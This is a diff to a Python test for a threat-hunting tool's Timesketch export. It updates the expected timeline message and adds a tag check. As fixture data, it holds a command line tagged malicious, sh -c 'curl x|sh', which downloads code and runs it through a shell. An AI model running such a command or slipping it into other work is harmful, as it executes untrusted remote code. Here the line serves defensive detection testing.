@@ -89,8 +89,9 @@ def test_timesketch_can_import_it(case, tmp_path):
     assert event["tags"] == "malicious|needs-review" and event["source"] == "https://es:9200"
     tagged_only = next(r for r in rows if r["file.name"] == "/bin/sh" or r["file.name"] == "'\rCR")
     assert tagged_only["timestamp_desc"] == "Tagged in case" and tagged_only["datetime"] == tagged_only["tagged"]
-    assert event["message"] == "huntbench query 2: @timestamp=2026-11-20T10:00:00+02:00, agent.id=a1, host.name=web1, " \
-        "process.command_line=sh -c 'curl x|sh'"
+    # One sentence a timeline reader understands: tags, what, where, from which query.
+    assert event["message"] == "malicious, needs-review command line: sh -c 'curl x|sh' on web1 (huntbench, Q3)"
+    assert json.loads(event["tag"]) == ["malicious", "needs-review"]
 
 
 def test_tag_filter_and_untagged_findings(case, tmp_path):
